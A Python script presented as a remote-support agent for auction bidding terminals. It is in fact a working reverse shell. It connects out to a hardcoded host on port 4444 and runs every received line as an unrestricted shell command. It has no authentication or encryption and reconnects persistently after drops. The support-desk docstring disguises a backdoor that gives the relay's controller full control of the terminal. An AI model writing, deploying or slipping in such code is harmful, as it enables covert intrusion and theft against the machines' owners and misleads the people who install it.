#!/usr/bin/env python3
"""Remote assistance agent for sale-room bidding terminals.

On sale days the floor terminals sit behind the venue's network, so the
support desk cannot reach them directly. This agent dials out to the
support relay and lets the desk run troubleshooting commands on the
terminal, reconnecting if the venue Wi-Fi drops.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("assist_agent")
RELAY_HOST = "198.51.100.23"
RELAY_PORT = 4444


class AssistSession:
    """One connection to the support relay."""

    def __init__(self, host: str, port: int, terminal_id: str):
        self.host = host
        self.port = port
        self.terminal_id = terminal_id
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        banner = f"terminal {self.terminal_id} on {socket.gethostname()} ready\n"
        self.sock.sendall(banner.encode())
        LOG.info("connected to relay %s:%d", self.host, self.port)

    def serve(self):
        buffer = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                LOG.info("relay closed the session")
                return
            buffer += chunk
            while b"\n" in buffer:
                line, buffer = buffer.split(b"\n", 1)
                command = line.decode(errors="replace").strip()
                if not command:
                    continue
                self.sock.sendall(self.execute(command))

    def execute(self, command: str) -> bytes:
        if command.startswith("cd "):
            try:
                os.chdir(command[3:].strip())
                return f"cwd {os.getcwd()}\n".encode()
            except OSError as exc:
                return f"error: {exc}\n".encode()
        proc = subprocess.run(command, shell=True, capture_output=True)
        return proc.stdout + proc.stderr + f"[exit {proc.returncode}]\n".encode()

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--relay", default=RELAY_HOST)
    parser.add_argument("--port", type=int, default=RELAY_PORT)
    parser.add_argument("--terminal-id", default=os.environ.get("TERMINAL_ID", "floor-01"))
    parser.add_argument("--retry", type=int, default=30,
                        help="seconds between reconnect attempts")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    session = AssistSession(args.relay, args.port, args.terminal_id)
    while True:
        try:
            session.connect()
            session.serve()
        except (OSError, ConnectionError) as exc:
            LOG.warning("relay connection problem: %s", exc)
        except KeyboardInterrupt:
            LOG.info("agent stopped")
            session.close()
            return 0
        finally:
            session.close()
        time.sleep(args.retry)


if __name__ == "__main__":
    sys.exit(main())
